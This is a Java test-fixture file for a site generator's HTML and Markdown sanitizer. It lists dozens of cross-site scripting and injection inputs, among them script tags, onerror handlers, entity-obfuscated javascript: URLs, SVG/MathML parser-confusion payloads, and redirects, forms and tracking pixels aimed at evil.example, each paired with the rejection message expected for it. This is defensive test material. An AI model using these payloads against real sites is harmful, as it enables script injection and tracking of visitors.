package org.sitegen.sanitize;

import java.util.List;

/**
 * Attack and legitimate inputs for the allowlist, one per class of attack in issue 10. Each attack names the message
 * {@code MarkdownConverter} must report for it (word for word, with {@code ALLOWED} standing for the allowed-tag list),
 * or {@code null} when Markdown itself renders the input as inert text.
 */
final class SanitizeFixtures {
    /** One hostile input. {@code rawHtml}: whether it is raw HTML (checked as a fragment too) or Markdown syntax. */
    record Attack(String name, String input, boolean rawHtml, String expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Attack html(String name, String input, String expected) {
        return new Attack(name, input, true, expected);
    }

    private static Attack markdown(String name, String input, String expected) {
        return new Attack(name, input, false, expected);
    }

    private static final String SCRIPT = "raw HTML: <script> is not allowed ALLOWED";
    private static final String ONERROR = "raw HTML: the attribute 'onerror' is not allowed on <img>";
    private static final String COMMENT = "raw HTML: comments are not allowed";
    private static final String JAVASCRIPT = "raw HTML: 'javascript:' URLs are not allowed";

    static final List<Attack> ATTACKS = List.of(
            // comments: where the allowlist and a browser might disagree about the end
            html("comment ended by --!>", "<!-- --!> <script>alert(1)</script> -->", SCRIPT),
            html("comment <!-->", "<!--> <img src=x onerror=alert(1)> -->", ONERROR),
            html("comment <!--->", "<!---> <img src=x onerror=alert(1)> -->", ONERROR),
            html("empty comment <!---->", "<!---->", COMMENT),
            html("comment hiding a region marker", "<!--\n::: region us\n-->", COMMENT),
            html("bogus comment <? >", "<?php echo 1 ?><img src=x onerror=alert(1)>", COMMENT),
            html("bogus comment </ x>", "Text </ x><img src=x onerror=alert(1)>", ONERROR),
            html("end tag with a space </x >", "</x >\n<script>alert(1)</script>", SCRIPT),
            html("bogus comment <!x>", "<!x><img src=x onerror=alert(1)>", ONERROR),
            // namespace confusion
            html("MathML style confusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                    "raw HTML: <math> is not allowed ALLOWED"),
            html("svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "raw HTML: <svg> is not allowed ALLOWED"),
            html("svg a xlink:href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
                    "raw HTML: <svg> is not allowed ALLOWED"),
            html("svg style", "<svg><style><img src=x onerror=alert(1)></style></svg>", "raw HTML: <svg> is not allowed ALLOWED"),
            html("svg script", "<svg><script>alert(1)</script></svg>", "raw HTML: <svg> is not allowed ALLOWED"),
            html("noscript parse difference", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                    "raw HTML: <noscript> is not allowed ALLOWED"),
            // page-wide effects and third-party requests
            html("base href", "<base href=\"https://evil.example/\">", "raw HTML: <base> is not allowed ALLOWED"),
            html("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
                    "raw HTML: <meta> is not allowed ALLOWED"),
            html("form action", "<form action=\"https://evil.example/\"><p>Name</p></form>", "raw HTML: <form> is not allowed ALLOWED"),
            html("link stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                    "raw HTML: <link> is not allowed ALLOWED"),
            html("a ping", "<a href=\"x.md\" ping=\"https://evil.example/t\">x</a>", "raw HTML: the attribute 'ping' is not allowed on <a>"),
            html("a target", "<a href=\"https://example.org\" target=\"_blank\">x</a>",
                    "raw HTML: the attribute 'target' is not allowed on <a>"),
            html("video poster", "<video poster=\"https://evil.example/p.png\"></video>", "raw HTML: <video> is not allowed ALLOWED"),
            html("img srcset", "<img src=\"a.png\" srcset=\"https://evil.example/p.png 2x\" alt=\"\">",
                    "raw HTML: the attribute 'srcset' is not allowed on <img>"),
            html("third-party img", "<img src=\"https://evil.example/pixel.png\" alt=\"\">",
                    "raw HTML: <img> must load a local file, not 'https://evil.example/pixel.png'"),
            html("protocol-relative img", "<img src=\"//evil.example/pixel.png\" alt=\"\">",
                    "raw HTML: <img> must load a local file, not '//evil.example/pixel.png'"),
            html("backslash img", "<img src=\"/\\evil.example/pixel.png\" alt=\"\">",
                    "raw HTML: <img> must load a local file, not '/\\evil.example/pixel.png'"),
            // URLs
            html("data: link", "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
                    "raw HTML: 'data:' URLs are not allowed"),
            html("data: image", "<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\" alt=\"\">",
                    "raw HTML: 'data:' URLs are not allowed"),
            html("tab entity in scheme", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", JAVASCRIPT),
            html("decimal entity scheme", "<a href=\"&#106;avascript:alert(1)\">x</a>", JAVASCRIPT),
            html("named colon entity", "<a href=\"javascript&colon;alert(1)\">x</a>", JAVASCRIPT),
            html("upper-case scheme", "<a href=\"JAVASCRIPT:alert(1)\">x</a>", JAVASCRIPT),
            html("leading blanks", "<a href=\" \t javascript:alert(1)\">x</a>", JAVASCRIPT),
            html("control character", "<a href=\"\u0001javascript:alert(1)\">x</a>", JAVASCRIPT),
            html("vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>", "raw HTML: 'vbscript:' URLs are not allowed"),
            // CSS
            html("style @import", "<style>@import url(https://evil.example/x.css);</style>", "raw HTML: <style> is not allowed ALLOWED"),
            html("style hiding the disclaimer", "<style>#regulatory-disclaimer{display:none}</style>",
                    "raw HTML: <style> is not allowed ALLOWED"),
            html("style attribute", "<p style=\"background:url(//evil.example/x.png)\">x</p>",
                    "raw HTML: the attribute 'style' is not allowed on <p>"),
            // the layout's own classes: author CSS never reaches a page, but these borrow the site's styles to hide text
            html("class skip-link moves text off-screen", "<p class=\"skip-link\">Shown only on keyboard focus.</p>",
                    "raw HTML: the class 'skip-link' is not allowed (allowed: no-gloss)"),
            html("class term-tip makes text invisible", "Text <span class=\"no-gloss term-tip\">unseen</span>.",
                    "raw HTML: the class 'term-tip' is not allowed (allowed: no-gloss)"),
            html("class site-footer drops text from print", "<div class=\"site-footer\">Gone when printed.</div>",
                    "raw HTML: the class 'site-footer' is not allowed (allowed: no-gloss)"),
            html("forged footnote class", "<div class=\"footnotes\">Looks like a footnote.</div>",
                    "raw HTML: the class 'footnotes' is not allowed (allowed: no-gloss)"),
            // frames, objects, forms, raw-text elements
            html("iframe", "<iframe src=\"https://evil.example/\"></iframe>", "raw HTML: <iframe> is not allowed ALLOWED"),
            html("object", "<object data=\"x.swf\"></object>", "raw HTML: <object> is not allowed ALLOWED"),
            html("embed", "<embed src=\"x.swf\">", "raw HTML: <embed> is not allowed ALLOWED"),
            html("template", "<template><img src=x onerror=alert(1)></template>", "raw HTML: <template> is not allowed ALLOWED"),
            html("textarea", "<textarea><img src=x onerror=alert(1)></textarea>", "raw HTML: <textarea> is not allowed ALLOWED"),
            html("select and option", "<select><option>Pick</option></select>", "raw HTML: <select> is not allowed ALLOWED"),
            html("input autofocus", "<input autofocus onfocus=alert(1)>", "raw HTML: <input> is not allowed ALLOWED"),
            html("button formaction", "<button formaction=\"javascript:alert(1)\">x</button>", "raw HTML: <button> is not allowed ALLOWED"),
            html("plaintext", "<plaintext><img src=x onerror=alert(1)>", "raw HTML: <plaintext> is not allowed ALLOWED"),
            html("xmp", "<xmp><img src=x onerror=alert(1)></xmp>", "raw HTML: <xmp> is not allowed ALLOWED"),
            html("title", "<title><img src=x onerror=alert(1)></title>", "raw HTML: <title> is not allowed ALLOWED"),
            html("marquee", "<marquee onstart=alert(1)>x</marquee>", "raw HTML: <marquee> is not allowed ALLOWED"),
            html("body onload", "Text <body onload=alert(1)>", "raw HTML: <body> is not allowed ALLOWED"),
            // scripts in many spellings
            html("script", "<script>alert(1)</script>", SCRIPT),
            html("upper-case script", "<SCRIPT>alert(1)</SCRIPT>", SCRIPT),
            html("mixed-case script with src", "<ScRiPt src=\"https://evil.example/x.js\"></sCrIpT>", SCRIPT),
            html("inline script", "Text <script>alert(1)</script> more.", SCRIPT),
            html("script tag over two lines", "<script\n>alert(1)</script>", SCRIPT),
            html("script with a slash", "<script/x>alert(1)</script>", null),
            // event handlers on allowed tags
            html("img onerror", "<img src=\"x.png\" onerror=\"alert(1)\" alt=\"\">", ONERROR),
            html("image alias onerror", "<image src=x onerror=alert(1)>", ONERROR),
            html("div onclick", "<div onclick=\"alert(1)\">x</div>", "raw HTML: the attribute 'onclick' is not allowed on <div>"),
            html("details ontoggle", "<details open ontoggle=\"alert(1)\"><summary>x</summary></details>",
                    "raw HTML: the attribute 'ontoggle' is not allowed on <details>"),
            html("inline onmouseover", "Hover <span onmouseover=\"alert(1)\">here</span>.",
                    "raw HTML: the attribute 'onmouseover' is not allowed on <span>"),
            // forged build markers
            html("forged region marker", "<div data-region-block=\"us\">US only</div>",
                    "raw HTML: the attribute 'data-region-block' is not allowed on <div>"),
            html("forged link marker", "<a data-link=\"0\" href=\"x.md\">x</a>", "raw HTML: the attribute 'data-link' is not allowed on <a>"),
            // Markdown destinations
            markdown("markdown javascript link", "[x](javascript:alert(1))", "'javascript:' URLs are not allowed"),
            markdown("markdown upper-case link", "[x](JAVASCRIPT:alert(1))", "'javascript:' URLs are not allowed"),
            markdown("markdown entity link", "[x](&#106;avascript:alert(1))", "'javascript:' URLs are not allowed"),
            markdown("markdown tab entity link", "[x](jav&#x09;ascript:alert(1))", "'javascript:' URLs are not allowed"),
            markdown("markdown pointy link", "[x](<javascript:alert(1)>)", "'javascript:' URLs are not allowed"),
            markdown("markdown data link", "[x](data:text/html;base64,PHNjcmlwdD4=)", "'data:' URLs are not allowed"),
            markdown("markdown data image", "![x](data:image/png;base64,iVBOR)", "'data:' URLs are not allowed"),
            markdown("markdown third-party image", "![x](https://evil.example/pixel.png)",
                    "images must load a local file, not 'https://evil.example/pixel.png'"),
            markdown("markdown reference link", "[x][r]\n\n[r]: vbscript:msgbox(1)", "'vbscript:' URLs are not allowed"),
            markdown("markdown reference image", "![x][r]\n\n[r]: //evil.example/p.png", "images must load a local file, not '//evil.example/p.png'"),
            markdown("autolink", "<javascript:alert(1)>", "'javascript:' URLs are not allowed"));

    /** Inputs an article legitimately contains: no violation through any route. */
    static final List<String> LEGITIMATE = List.of(
            "| Risk | Rate |\n|:--|--:|\n| Bleeding | rare |\n",
            "<table class=\"no-gloss\">\n<caption>Doses</caption>\n<colgroup><col span=\"2\"></colgroup>\n<thead><tr><th scope=\"col\">Drug</th>"
                    + "</tr></thead>\n<tbody><tr><td colspan=\"2\" rowspan=\"1\" align=\"right\">1</td></tr></tbody>\n"
                    + "<tfoot><tr><td headers=\"x\">Sum</td></tr></tfoot>\n</table>",
            "<details open>\n<summary>More</summary>\n\nHidden **Markdown** text.\n\n</details>",
            "<figure>\n<img src=\"../assets/spine.png\" alt=\"The spine\" width=\"320\" height=\"200\" loading=\"lazy\" title=\"Spine\">\n"
                    + "<figcaption>The lumbar spine.</figcaption>\n</figure>",
            "The <abbr title=\"Spinal cord stimulation\">SCS</abbr> trial. Press <kbd>Ctrl</kbd>+<kbd>F</kbd>.",
            "<dl>\n<dt>Facet</dt>\n<dd>A joint.</dd>\n</dl>",
            "Fluoroscopy\n: Live X-ray imaging.",
            "Imaging is used.[^1]\n\n[^1]: Practices differ.",
            "See [the ladder](pain-ladder.md#steps), [[radiofrequency-ablation]], [[faq:can-i-drive-home|driving]] and [[plain:RFA]].",
            "Write to [us](mailto:care@example.org), call <a href=\"tel:+15551234\">us</a> or visit "
                    + "<a href=\"https://example.org/\" rel=\"noopener\" hreflang=\"en\" title=\"Example\">the site</a>.",
            "<https://example.org/> and <care@example.org>",
            "![A local figure](img/figure.png \"Title\")",
            "<ol start=\"3\" type=\"a\" reversed>\n<li>Third</li>\n</ol>",
            "<p lang=\"tr\" dir=\"ltr\" class=\"no-gloss\" id=\"note-1\">H<sub>2</sub>O, E=mc<sup>2</sup>, <mark>marked</mark>, <q>quote</q>, "
                    + "<s>old</s>, <u>u</u>, <small>small</small>, <var>x</var>, <samp>out</samp>, <cite>Book</cite>, <b>b</b>, "
                    + "<i>i</i>, <em>em</em>, <strong>strong</strong>, <code>code</code><br>line</p>\n<hr>",
            "<blockquote>\n<p>Quoted.</p>\n</blockquote>",
            "```html\n<script>alert(1)</script>\n<!-- code -->\n```",
            "Inline `<script>alert(1)</script>` in code.",
            "# A title heading\n\n## Section\n\n### Sub\n\n###### Deep",
            "::: region eu tr\nOnly in Europe, with a [[glossary:facet-joint]] link.\n:::",
            "<div><span class=\"no-gloss\">Plain</span> text</div>",
            "<pre><code>preformatted</code></pre>",
            "AT&amp;T &lt;b&gt; 3 &lt; 4");

    private SanitizeFixtures() {
    }
}
